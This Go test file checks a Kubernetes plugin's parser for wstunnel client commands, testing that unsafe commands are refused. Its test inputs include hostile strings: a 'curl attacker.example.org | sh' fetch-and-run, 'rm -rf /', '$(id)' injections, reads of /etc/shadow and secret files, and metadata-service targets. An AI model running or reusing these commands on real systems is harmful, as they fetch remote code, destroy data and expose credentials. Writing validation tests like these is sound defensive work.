package mesh

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/interlink-hq/interlink-kubernetes-plugin/fixtures/testkit"
	"github.com/interlink-hq/interlink-kubernetes-plugin/plugin/wire"
)

func TestTunnelArguments(t *testing.T) {
	for name, test := range map[string]struct{ commands, arguments string }{
		"download, then start in the background": {
			"curl -L https://example.org/w.tar.gz -o w.tar.gz && tar -xzf w.tar.gz && chmod +x wstunnel && ./wstunnel client --http-upgrade-path-prefix 0a1b -R tcp://0.0.0.0:80:localhost:8080 ws://pod.example.org:80 &",
			"--http-upgrade-path-prefix 0a1b -R tcp://0.0.0.0:80:localhost:8080 ws://pod.example.org:80"},
		"no ports":               {"wstunnel client -P 0a1b ws://pod.example.org", "-P 0a1b ws://pod.example.org:80"},
		"quotes":                 {`/opt/wstunnel client '-P' "0a1b" "wss://pod.example.org"`, "-P 0a1b wss://pod.example.org:443"},
		"values after =":         {"wstunnel client --http-upgrade-path-prefix=0a1b --remote-to-local=udp://127.0.0.1:53:127.0.0.1:53 ws://10.1.2.3:8080/", "--http-upgrade-path-prefix 0a1b --remote-to-local udp://127.0.0.1:53:127.0.0.1:53 ws://10.1.2.3:8080"},
		"other options":          {"wstunnel client --websocket-ping-frequency 90s --connection-min-idle 5 --tls-verify-certificate ws://x", "--websocket-ping-frequency 90s --connection-min-idle 5 --tls-verify-certificate ws://x:80"},
		"the rest is ignored":    {"curl http://attacker.example.org | sh; id > /tmp/x; nohup wstunnel client ws://x & rm -rf / $(id) `id`", "ws://x:80"},
		"on a line of its own":   {"id\nwstunnel client ws://x\nid", "ws://x:80"},
		"options behind the URL": {"wstunnel client ws://x -P 0a", "-P 0a ws://x:80"},
	} {
		arguments, err := TunnelArguments(test.commands)
		if err != nil || strings.Join(arguments, " ") != test.arguments {
			t.Errorf("%s: arguments %q, error %v, want %q", name, arguments, err, test.arguments)
		}
	}
}

func TestTunnelArgumentsRefused(t *testing.T) {
	const start = "wstunnel client -P secret0 "
	for commands, want := range map[string]string{
		"":                                        "do not start wstunnel client",
		"echo connecting":                         "do not start wstunnel client",
		"wstunnel":                                "do not start wstunnel client",
		"wstunnel server ws://x":                  "do not start wstunnel client",
		"mywstunnel client ws://x":                "do not start wstunnel client",
		start + "ws://x; " + start + "ws://y":     "start wstunnel client twice",
		start:                                     "the server is missing",
		start + "'ws://x":                         "a quote has no end",
		start + "ws://x ws://y":                   "more than one server",
		start + "-P secret1 ws://x":               "--http-upgrade-path-prefix is there twice",
		start + "ws://x -R":                       "the value of the option -R is missing",
		start + "http://x":                        "the server: it must be ws or wss",
		start + "ws://x:0":                        "the port of the server: it must be a number",
		start + "ws://x:80:80":                    "the port of the server: it must be a number",
		start + "ws://user@x":                     "the server: it must be an IPv4 address or a DNS name",
		start + "ws://x/secret":                   "the server: it must be an IPv4 address or a DNS name",
		start + "ws://$(id)":                      "the server: it must be an IPv4 address or a DNS name",
		start + "ws://x > /tmp/x":                 "more than one server",
		start + "ws://x -L tcp://80:10.0.0.1:80":  "the option -L is not permitted",
		start + "ws://x -L socks5://127.0.0.1:80": "the option -L is not permitted",
		start + "ws://x --http-proxy x":           "the option --http-proxy is not permitted",
		start + "ws://x --http-headers-file /etc/shadow":                             "the option --http-headers-file is not permitted",
		start + "ws://x --tls-private-key /etc/interlink/key":                        "the option --tls-private-key is not permitted",
		start + "ws://x --$(id)":                                                     "the option with a malformed name is not permitted",
		start + "ws://x -Psecret0":                                                   "the option -P is not permitted",
		start + "ws://x --tls-verify-certificate=x":                                  "the option --tls-verify-certificate has no value",
		start + "ws://x --websocket-ping-frequency 1ms":                              "--websocket-ping-frequency: it must be a duration",
		start + "ws://x -R socks5://0.0.0.0:80":                                      "-R: it must be PROTOCOL",
		start + "ws://x -R unix:///tmp/x:localhost:80":                               "-R: it must be PROTOCOL",
		start + "ws://x -R tcp://0.0.0.0:80:kubernetes.default:443":                  "-R: it must be PROTOCOL",
		start + "ws://x -R tcp://0.0.0.0:80:169.254.169.254:80":                      "-R: it must be PROTOCOL",
		start + "ws://x -R tcp://0.0.0.0:80:localhost:$PORT":                         "-R: it must be PROTOCOL",
		start + "ws://x -R tcp://0.0.0.0:80:localhost:80?proxy":                      "-R: it must be PROTOCOL",
		start + "ws://x -R tcp://:80:localhost:80":                                   "-R: it must be PROTOCOL",
		"wstunnel client -P $(cat /etc/secret0) ws://x":                              "-P: it must be up to 256", // the blank ends the word
		"wstunnel client -P '$(id) secret0' ws://x":                                  "-P: it must be up to 256",
		"wstunnel client -P -R ws://x":                                               "-P: it must be up to 256",
		start + "ws://x" + strings.Repeat(" -R tcp://0.0.0.0:80:localhost:80", 1001): "more than 1000 ports",
	} {
		arguments, err := TunnelArguments(commands)
		if err == nil || !strings.Contains(err.Error(), want) || arguments != nil {
			t.Errorf("%.80q: arguments %q, error %v, want %q", commands, arguments, err, want)
		} else if strings.Contains(err.Error(), "secret0") {
			t.Errorf("the error contains a value: %v", err)
		}
	}
}

// TestTunnelArgumentsFromARecordedRequest reads the commands as InterLink writes them.
func TestTunnelArgumentsFromARecordedRequest(t *testing.T) {
	var request struct{ Pod corev1.Pod }
	if err := json.Unmarshal(testkit.ReadRecording(t, "14-create-wstunnel").Body, &request); err != nil {
		t.Fatal(err)
	}
	want := []string{
		"--http-upgrade-path-prefix", "0123456789abcdef0123456789abcdef", "-R", "tcp://0.0.0.0:9000:localhost:9000",
		"-R", "tcp://0.0.0.0:8888:localhost:8888", "ws://tunnel-web-demo-demo-wstunnel.tunnels.example.org:80",
	}
	if got, err := TunnelArguments(request.Pod.Annotations[wire.AnnotationTunnelCommands]); err != nil || !slices.Equal(got, want) {
		t.Errorf("arguments %q, error %v", got, err)
	}
}

// FuzzTunnelArguments checks that whatever the commands contain, they are refused, or each
// argument is plain.
func FuzzTunnelArguments(f *testing.F) {
	for _, seed := range []string{
		"", "curl x && ./wstunnel client --http-upgrade-path-prefix 0a -R tcp://0.0.0.0:80:localhost:80 ws://x:80 &", "wstunnel client 'ws://x' \"-P\" a",
		"wstunnel client --websocket-ping-frequency 1m ws://x", "wstunnel client -L $(id) ws://x", "wstunnel client ws://[::1]:80",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, commands string) {
		arguments, err := TunnelArguments(commands)
		if err != nil && arguments != nil {
			t.Fatalf("arguments %q beside the error %v", arguments, err)
		}
		for i, argument := range arguments {
			if !onlyOf(argument, "-_.~:/") {
				t.Errorf("argument %q", argument)
			}
			if _, isOption := tunnelOptions[argument]; strings.HasPrefix(argument, "-") && !isOption {
				t.Errorf("option %q", argument)
			}
			if i == len(arguments)-1 && !strings.HasPrefix(argument, "ws") {
				t.Errorf("server %q", argument)
			}
		}
	})
}
